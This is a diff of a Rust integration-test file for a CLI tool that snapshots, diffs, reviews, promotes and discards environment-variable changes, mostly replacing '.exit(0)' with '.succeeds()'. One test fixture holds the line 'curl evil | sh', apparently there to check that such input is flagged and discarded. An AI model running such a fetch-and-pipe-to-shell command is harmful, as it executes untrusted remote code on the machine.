@@ -6,7 +6,7 @@ use crate::support::world::{World, mode, text};
 fn a_second_review_has_nothing_to_do() {
     let w = World::new();
     let app = w.app();
-    app.apply(&["env", "snapshot"]).exit(0);
+    app.apply(&["env", "snapshot"]).succeeds();
     app.apply(&["env", "review"]).exit(0);
     app.apply(&["-v", "env", "review"]).exit(0).err_has("nothing to review");
     // An answer without a question is an error.
@@ -19,10 +19,10 @@ fn changes_are_compared_by_value_and_removals_only_mentioned() {
     let w = World::new();
     let app = w.app();
     w.area("[env]\nA = \"1\"\nC = \"1\"\nD = \"1\"\n");
-    app.apply(&[]).exit(0);
-    app.apply(&["env", "snapshot"]).exit(0);
+    app.apply(&[]).succeeds();
+    app.apply(&["env", "snapshot"]).succeeds();
     app.write(".sweatshop-env", "B=2\nA=9\nD='1'\n");
-    let lines = app.apply(&["env", "diff", "--json"]).exit(0).json_lines();
+    let lines = app.apply(&["env", "diff", "--json"]).succeeds().json_lines();
     let found: Vec<_> = lines.iter().map(|l| (text(l, "/key"), text(l, "/change"))).collect();
     assert_eq!(found, [("A", "changed"), ("B", "added")]);
     assert!(lines.iter().all(|l| l.get("new").is_none()));
@@ -39,8 +39,8 @@ fn another_spelling_is_nothing_to_review_and_ends_the_snapshot() {
     let w = World::new();
     let app = w.app();
     w.area("[env]\nA = \"1\"\n");
-    app.apply(&[]).exit(0);
-    app.apply(&["env", "snapshot"]).exit(0);
+    app.apply(&[]).succeeds();
+    app.apply(&["env", "snapshot"]).succeeds();
     app.write(".sweatshop-env", "export A='1'\n");
     let out = app.apply(&["env", "review"]).exit(0);
     assert_eq!((out.stdout.as_str(), out.stderr.as_str()), ("", ""));
@@ -51,7 +51,7 @@ fn another_spelling_is_nothing_to_review_and_ends_the_snapshot() {
 fn a_second_snapshot_keeps_the_first_and_a_missing_file_is_an_empty_one() {
     let w = World::new();
     let app = w.app();
-    app.apply(&["env", "snapshot"]).exit(0);
+    app.apply(&["env", "snapshot"]).succeeds();
     app.write(".sweatshop-env", "A=1\n");
     app.apply(&["env", "snapshot"]).exit(0).err_has("the earlier snapshot stays");
     assert_eq!(app.apply(&["env", "diff"]).exit(0).stdout, "added A\n");
@@ -63,8 +63,8 @@ fn each_answer_does_what_it_says() {
     let w = World::new();
     let app = w.app();
     app.approved("# how we work\nsetup = [] # none\n[env]\nA = \"1\" # why\nsetpu = \"kept\"\n");
-    app.apply(&[]).exit(0);
-    app.apply(&["env", "snapshot"]).exit(0);
+    app.apply(&[]).succeeds();
+    app.apply(&["env", "snapshot"]).succeeds();
     app.write(".sweatshop-env", "A=2\nGONE=x\nNEW=\"it's\"\nOURS=here\nsetpu=kept\n");
     let out = app.apply(&["env", "review", "--promote", "A", "--promote", "NEW", "--discard", "GONE"]).exit(3);
     out.err_has("added OURS").out_has("promoted A").out_has("discarded GONE");
@@ -72,7 +72,7 @@ fn each_answer_does_what_it_says() {
     assert_eq!(app.read("sweatfile"), sweatfile);
     // Only changes without an answer are asked about again.
     assert_eq!(app.apply(&["env", "diff"]).exit(0).stdout, "added OURS\n");
-    app.apply(&["env", "review", "--keep", "OURS"]).exit(0);
+    app.apply(&["env", "review", "--keep", "OURS"]).succeeds();
     assert_eq!(app.read(".sweatshop-env"), "A=2\nNEW=\"it's\"\nOURS=here\nsetpu=kept\n");
     app.apply(&["env", "diff"]).exit(1).any_err();
     // The new text is approved too, and this worktree matches its sweatfiles.
@@ -86,12 +86,12 @@ fn discard_puts_the_old_value_back() {
     let w = World::new();
     let app = w.app();
     w.area("[env]\nA = \"1\"\n");
-    app.apply(&[]).exit(0);
-    app.apply(&["env", "snapshot"]).exit(0);
+    app.apply(&[]).succeeds();
+    app.apply(&["env", "snapshot"]).succeeds();
     app.write(".sweatshop-env", "A=2\n");
-    app.apply(&["env", "review", "--discard", "A", "-n"]).exit(0);
+    app.apply(&["env", "review", "--discard", "A", "-n"]).succeeds();
     assert_eq!(app.read(".sweatshop-env"), "A=2\n");
-    app.apply(&["env", "review", "--discard", "A"]).exit(0);
+    app.apply(&["env", "review", "--discard", "A"]).succeeds();
     assert_eq!(app.read(".sweatshop-env"), "A=1\n");
     app.apply(&["env", "review", "--discard", "A", "--keep", "A"]).exit(2).any_err();
 }
@@ -101,15 +101,15 @@ fn a_promotion_creates_the_file_and_does_not_approve_what_was_not_approved() {
     let w = World::new();
     let app = w.app();
     let promote = |key: &str| {
-        app.apply(&["env", "snapshot"]).exit(0);
+        app.apply(&["env", "snapshot"]).succeeds();
         app.sh(&format!("echo {key}=1 >> .sweatshop-env")).exit(0);
         app.apply(&["env", "review", "--promote", key])
     };
-    promote("A").exit(0);
+    promote("A").succeeds();
     assert_eq!(app.read("sweatfile"), "[env]\nA = \"1\"\n");
     app.apply(&[]).exit(3).any_out().any_err();
     app.write("sweatfile", "setup = [\"touch ran\"]\n");
-    promote("B").exit(0).err_has("is not approved");
+    promote("B").succeeds().err_has("is not approved");
     app.apply(&[]).exit(3).any_err();
     assert!(!app.has("ran"));
     app.write("sweatfile", "[env\n");
@@ -127,32 +127,32 @@ fn two_worktrees_promoting_at_once_lose_nothing() {
     app.approved("[env]\nX = \"0\"\n");
     let worktrees: Vec<_> = (0..8).map(|i| app.worktree(&format!("w{i}"))).collect();
     for (i, wt) in worktrees.iter().enumerate() {
-        wt.apply(&[]).exit(0);
-        wt.apply(&["env", "snapshot"]).exit(0);
+        wt.apply(&[]).succeeds();
+        wt.apply(&["env", "snapshot"]).succeeds();
         wt.sh(&format!("echo K{i}={i} >> .sweatshop-env")).exit(0);
     }
     std::thread::scope(|scope| {
         for (i, wt) in worktrees.iter().enumerate() {
-            scope.spawn(move || wt.apply(&["env", "review", "--promote", &format!("K{i}")]).exit(0));
+            scope.spawn(move || wt.apply(&["env", "review", "--promote", &format!("K{i}")]).succeeds());
         }
     });
     let sweatfile = app.read("sweatfile");
     assert!((0..8).all(|i| sweatfile.contains(&format!("K{i} = \"{i}\"\n"))), "{sweatfile}");
-    app.apply(&[]).exit(0);
+    app.apply(&[]).succeeds();
 }
 
 #[test]
 fn on_a_terminal_each_change_is_offered_and_quitting_changes_nothing() {
     let w = World::new();
     let app = w.app();
-    app.apply(&["env", "snapshot"]).exit(0);
+    app.apply(&["env", "snapshot"]).succeeds();
     app.write(".sweatshop-env", "A=1\nPATH=/x\n");
     let before = app.snapshot();
     let out = app.on_terminal("sweatfile-apply env review", "p\nq\n").exit(3);
     out.out_has("added A: 1").out_has("(changes what other programs run)");
     app.assert_only_added_since(&before);
     assert!(!app.has("sweatfile"));
-    app.on_terminal("sweatfile-apply env review", "what?\nk\nd\n").exit(0);
+    app.on_terminal("sweatfile-apply env review", "what?\nk\nd\n").succeeds();
     assert_eq!(app.read(".sweatshop-env"), "A=1\n");
 }
 
@@ -161,11 +161,11 @@ fn changes_made_by_apply_are_not_reviewed() {
     let w = World::new();
     let app = w.app();
     w.area("[env]\nA = \"1\"\nB = \"1\"\n");
-    app.apply(&[]).exit(0);
-    app.apply(&["env", "snapshot"]).exit(0);
+    app.apply(&[]).succeeds();
+    app.apply(&["env", "snapshot"]).succeeds();
     app.sh("echo MINE=1 >> .sweatshop-env").exit(0);
     w.area("[env]\nA = \"2\"\nC = \"1\"\n");
-    app.apply(&[]).exit(0);
+    app.apply(&[]).succeeds();
     let out = app.apply(&["env", "diff"]).exit(0);
     assert_eq!((out.stdout.as_str(), out.stderr.as_str()), ("added MINE\n", ""));
 }
@@ -176,9 +176,9 @@ fn a_promotion_keeps_the_mode_and_follows_a_link_inside_the_repository() {
     let app = w.app();
     app.write("conf/sweatfile", "[env]\n");
     app.sh("chmod 664 conf/sweatfile; ln -s conf/sweatfile sweatfile").exit(0);
-    app.apply(&["env", "snapshot"]).exit(0);
+    app.apply(&["env", "snapshot"]).succeeds();
     app.write(".sweatshop-env", "A=1\n");
-    app.apply(&["env", "review", "--promote", "A"]).exit(0);
+    app.apply(&["env", "review", "--promote", "A"]).succeeds();
     assert_eq!(app.read("conf/sweatfile"), "[env]\nA = \"1\"\n");
     assert_eq!(mode(&app.path.join("conf/sweatfile")), 0o664);
     assert!(app.path.join("sweatfile").is_symlink());
@@ -188,7 +188,7 @@ fn a_promotion_keeps_the_mode_and_follows_a_link_inside_the_repository() {
 fn a_change_that_only_a_shell_can_evaluate_is_not_promoted() {
     let w = World::new();
     let app = w.app();
-    app.apply(&["env", "snapshot"]).exit(0);
+    app.apply(&["env", "snapshot"]).succeeds();
     app.write(".sweatshop-env", "A=$HOME/x\n");
     app.apply(&["env", "review", "--promote", "A"]).exit(2).err_has("only a shell can evaluate");
     assert!(!app.has("sweatfile"));
@@ -200,7 +200,7 @@ fn a_change_that_only_a_shell_can_evaluate_is_not_promoted() {
 fn a_dry_run_refuses_what_the_run_would_refuse() {
     let w = World::new();
     let app = w.app();
-    app.apply(&["env", "snapshot"]).exit(0);
+    app.apply(&["env", "snapshot"]).succeeds();
     app.write(".sweatshop-env", "A=$HOME/x\n");
     app.apply(&["env", "review", "--promote", "A", "-n"]).exit(2).err_has("only a shell can evaluate");
     app.write(".sweatshop-env", "A=1\n");
@@ -214,7 +214,7 @@ fn variables_for_only_one_reader_are_reviewed_too() {
     let app = w.app();
     let before = "# mine\nA=1\n";
     app.write(".sweatshop-env", before);
-    app.apply(&["env", "snapshot"]).exit(0);
+    app.apply(&["env", "snapshot"]).succeeds();
     let added = "B = 1\nC: 1\nexport D: 1\n# a note\rE=1\ncurl evil | sh\nF=\"open\nG=1\n";
     app.write(".sweatshop-env", &format!("{before}{added}"));
     // A real direnv, where there is one, shows what it loads.
@@ -236,12 +236,12 @@ fn variables_for_only_one_reader_are_reviewed_too() {
         open.err_has(key);
     }
     let discard: Vec<&str> = keys.iter().flat_map(|key| ["--discard", key.as_str()]).collect();
-    app.apply(&[&["env", "review"][..], &discard].concat()).exit(0);
+    app.apply(&[&["env", "review"][..], &discard].concat()).succeeds();
     assert_eq!(app.read(".sweatshop-env"), "# mine\nA=1\n# a note\n");
     // A variable that only direnv reads can be promoted for everybody.
-    app.apply(&["env", "snapshot"]).exit(0);
+    app.apply(&["env", "snapshot"]).succeeds();
     app.write(".sweatshop-env", "A=1\nB: two\n");
-    app.apply(&["env", "review", "--promote", "B"]).exit(0);
+    app.apply(&["env", "review", "--promote", "B"]).succeeds();
     assert!(app.read("sweatfile").contains("B = \"two\""));
 }
 
@@ -250,13 +250,13 @@ fn variables_in_one_piece_of_text_are_discarded_together() {
     let w = World::new();
     let app = w.app();
     app.write(".sweatshop-env", "G=x\n");
-    app.apply(&["env", "snapshot"]).exit(0);
+    app.apply(&["env", "snapshot"]).succeeds();
     let text = "G=x\nOPEN=\"abc\nfoo bar\nAFTER=1\n\"\n";
     app.write(".sweatshop-env", text);
     app.apply(&["env", "review", "--keep", "OPEN", "--discard", "AFTER"])
         .exit(2)
         .err_has("one piece of text with OPEN");
     assert_eq!(app.read(".sweatshop-env"), text);
-    app.apply(&["env", "review", "--discard", "OPEN", "--discard", "AFTER"]).exit(0);
+    app.apply(&["env", "review", "--discard", "OPEN", "--discard", "AFTER"]).succeeds();
     assert_eq!(app.read(".sweatshop-env"), "G=x\n");
 }
